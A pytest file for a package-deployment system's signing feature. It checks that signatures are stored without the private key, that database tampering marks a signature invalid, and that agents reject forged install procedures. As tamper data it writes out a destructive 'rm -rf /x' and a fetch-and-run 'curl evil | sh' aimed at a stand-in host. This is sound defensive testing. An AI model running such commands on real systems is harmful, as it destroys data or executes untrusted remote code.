"""Signed packages on every database: signing stores the signature and key (never the private key),
the status is judged again against the stored fields, and the check-in hands the signature out."""

from __future__ import annotations

import dataclasses
import io
import re
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from oco.application import create_app
from oco.db.models import AuditLog, Job, Package
from oco.domain.signing import (
    JobClaim,
    SignatureStatus,
    SigningKey,
    parse_wire_signature,
    signature_problem,
    trust_policy,
)
from oco.errors import Conflict, InvalidInput, NotFound
from oco.services import agent_jobs, computers, deployments, packages, users
from oco.services.deployments import ContainerOptions, DeploymentRequest
from oco.services.runtime import Runtime
from oco.services.signing import create_signing_key, read_signing_key, signed_fields
from oco.services.targets import Targets
from tests.conftest import make_runtime
from tests.support import zip_bytes

PUBLISHER = SigningKey(Ed25519PrivateKey.generate())
OTHER = SigningKey(Ed25519PrivateKey.generate())


def add(rt: Runtime, version: str = "1.0", payload: bool = True) -> int:
    spec = packages.PackageSpec(
        family="Editor",
        version=version,
        install_procedure="./install.sh",
        uninstall_procedure="./uninstall.sh",
        install_success_codes="3010, 0",
    )
    store = (
        (lambda d: d.put_upload(io.BytesIO(zip_bytes({"install.sh": "true"})), "p.zip")) if payload else None
    )
    return packages.create_package(rt, spec, store, "admin").id


def test_signing_stores_the_signature_with_its_key_and_who_signed(rt: Runtime) -> None:
    package_id = add(rt)
    assert packages.package_detail(rt, package_id).signature_status is SignatureStatus.UNSIGNED

    signed = packages.sign_package(rt, package_id, PUBLISHER, "cli:alice")

    assert signed.signature_status is SignatureStatus.VALID
    assert signed.signature_key_id == PUBLISHER.public.key_id
    assert signed.signature_public_key == PUBLISHER.public.text
    assert signed.signed_by == "cli:alice" and signed.signed_at == rt.now()
    shown = packages.package_detail(rt, package_id)
    assert shown.signature_status is SignatureStatus.VALID
    assert shown.model_dump(mode="json")["signature_status"] == "valid"
    with rt.reading() as session:
        entry = session.scalars(select(AuditLog).where(AuditLog.action == "package.sign")).one()
        assert entry.details == {"name": "Editor 1.0", "key_id": PUBLISHER.public.key_id}
        stored = session.get(Package, package_id)
        assert stored is not None and stored.signature
        private = PUBLISHER.to_pem().decode()
        assert all(private not in str(value) for value in vars(stored).values())


def test_a_field_changed_in_the_database_after_signing_shows_the_signature_invalid(rt: Runtime) -> None:
    package_id = add(rt)
    packages.sign_package(rt, package_id, PUBLISHER, "admin")

    with rt.transaction() as session:
        session.execute(update(Package).where(Package.id == package_id).values(install_procedure="rm -rf /x"))

    shown = packages.package_detail(rt, package_id)
    assert shown.signature_status is SignatureStatus.INVALID
    assert shown.signature_key_id == PUBLISHER.public.key_id  # flagged, not cleared: who signed stays known
    packages.sign_package(rt, package_id, OTHER, "admin")  # signing again replaces it
    again = packages.package_detail(rt, package_id)
    assert (again.signature_status, again.signature_key_id) == (SignatureStatus.VALID, OTHER.public.key_id)


def test_a_package_without_payload_can_be_signed(rt: Runtime) -> None:
    package_id = add(rt, payload=False)
    assert packages.sign_package(rt, package_id, PUBLISHER, "admin").signature_status is SignatureStatus.VALID


def test_signing_an_unknown_package_is_not_found_and_changes_nothing(rt: Runtime) -> None:
    with pytest.raises(NotFound, match="package 999 does not exist"):
        packages.sign_package(rt, 999, PUBLISHER, "admin")
    with rt.reading() as session:
        assert session.scalars(select(AuditLog).where(AuditLog.action == "package.sign")).all() == []


def test_the_check_in_hands_out_the_signature_a_pinning_agent_accepts(rt: Runtime) -> None:
    package_id = add(rt)
    packages.sign_package(rt, package_id, PUBLISHER, "admin")
    computer = computers.add_computer(rt, "pc-signed", "admin")
    request = DeploymentRequest(
        ContainerOptions(name="signed"), Targets(computers=[computer.id], packages=[package_id])
    )
    deployments.create_deployment(rt, request, "admin")

    with rt.reading() as session:
        pending = agent_jobs.pending_jobs(session.connection(), computer.id)
    [job] = agent_jobs.software_jobs(pending, "127.0.0.1", rt.now())

    detail = packages.package_detail(rt, package_id)
    assert job["action"] == "install"
    assert (job["payload-sha256"], job["payload-size"]) == (detail.payload_sha256, detail.payload_size)
    wire = parse_wire_signature(job["package-signature"])
    with rt.reading() as session:
        stored = session.get(Package, package_id)
        assert stored is not None and wire.fields == signed_fields(stored)
    claim = JobClaim(
        action=job["action"],
        procedure=job["procedure"],
        download=job["download"],
        payload_sha256=job["payload-sha256"],
        post_actions=frozenset(),
        signature=job["package-signature"],
    )
    assert signature_problem(trust_policy([PUBLISHER.public.text]), claim) is None

    with rt.transaction() as session:  # a compromised server rewrites the job's copy of the procedure
        session.execute(update(Job).values(procedure="curl evil | sh"))
    with rt.reading() as session:
        [tampered] = agent_jobs.software_jobs(
            agent_jobs.pending_jobs(session.connection(), computer.id), "127.0.0.1", rt.now()
        )
    forged = dataclasses.replace(claim, procedure=tampered["procedure"])
    assert "not the signed install procedure" in (
        signature_problem(trust_policy([PUBLISHER.public.text]), forged) or ""
    )


def test_an_unsigned_package_s_job_carries_no_signature(rt: Runtime) -> None:
    package_id = add(rt)
    computer = computers.add_computer(rt, "pc-plain", "admin")
    request = DeploymentRequest(
        ContainerOptions(name="plain"), Targets(computers=[computer.id], packages=[package_id])
    )
    deployments.create_deployment(rt, request, "admin")
    with rt.reading() as session:
        [job] = agent_jobs.software_jobs(
            agent_jobs.pending_jobs(session.connection(), computer.id), "127.0.0.1", rt.now()
        )
    assert "package-signature" not in job and job["download"] is True


# Key files -----------------------------------------------------------------------------------------


def test_a_key_file_is_private_and_never_overwritten(tmp_path: Path) -> None:
    path = tmp_path / "publisher.pem"
    public = create_signing_key(path)
    assert path.stat().st_mode & 0o777 == 0o600
    assert read_signing_key(path).public == public
    before = path.read_bytes()
    with pytest.raises(Conflict, match="already exists"):
        create_signing_key(path)
    assert path.read_bytes() == before


def test_an_encrypted_key_file_needs_its_passphrase(tmp_path: Path) -> None:
    path = tmp_path / "publisher.pem"
    public = create_signing_key(path, b"correct horse")
    assert read_signing_key(path, b"correct horse").public == public
    with pytest.raises(InvalidInput, match=r"publisher\.pem"):
        read_signing_key(path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "No such file"),
        (b"not a key", "not a PEM private key"),
        (b"", "not a PEM private key"),
    ],
)
def test_a_wrong_key_file_is_refused_with_its_name(
    tmp_path: Path, content: bytes | None, message: str
) -> None:
    path = tmp_path / "key.pem"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(InvalidInput, match=message) as refused:
        read_signing_key(path)
    assert str(path) in refused.value.message and refused.value.field == "key"


def test_a_key_file_in_a_missing_directory_cannot_be_created(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="cannot create key file"):
        create_signing_key(tmp_path / "absent" / "key.pem")


# The console ---------------------------------------------------------------------------------------


def test_the_package_page_shows_unsigned_signed_and_invalid(sqlite_url: str, tmp_path: Path) -> None:
    rt = make_runtime(sqlite_url, tmp_path)
    users.add_user(rt, "admin", "a long password", "tests", "Ada Admin")
    unsigned, signed, changed = add(rt, "1"), add(rt, "2"), add(rt, "3")
    for package_id in (signed, changed):
        packages.sign_package(rt, package_id, PUBLISHER, "cli:alice")
    with rt.transaction() as session:
        session.execute(update(Package).where(Package.id == changed).values(uninstall_success_codes="1"))
    try:
        with TestClient(create_app(rt, run_housekeeping=False), follow_redirects=False) as client:
            form = client.get("/login").text
            token = re.search(r'name="login_csrf" value="([^"]+)"', form)
            assert token is not None
            credentials = {"username": "admin", "password": "a long password", "login_csrf": token.group(1)}
            assert client.post("/login", data={**credentials, "next": "/"}).status_code == 303

            def signature(package_id: int) -> str:
                found = re.search(
                    r'<dd id="signature".*?</dd>', client.get(f"/packages/{package_id}").text, re.S
                )
                assert found is not None
                return " ".join(found.group(0).split())

            key_id = PUBLISHER.public.key_id
            assert 'data-status="unsigned">Not signed</dd>' in signature(unsigned)
            assert f'data-status="valid">Signed by key <code>{key_id}</code>' in signature(signed)
            assert "by cli:alice" in signature(signed) and PUBLISHER.public.text in signature(signed)
            invalid = signature(changed)
            assert 'data-status="invalid"><strong class="error">Signature invalid</strong>' in invalid
            assert f"after key <code>{key_id}</code> signed it" in invalid
    finally:
        rt.close()
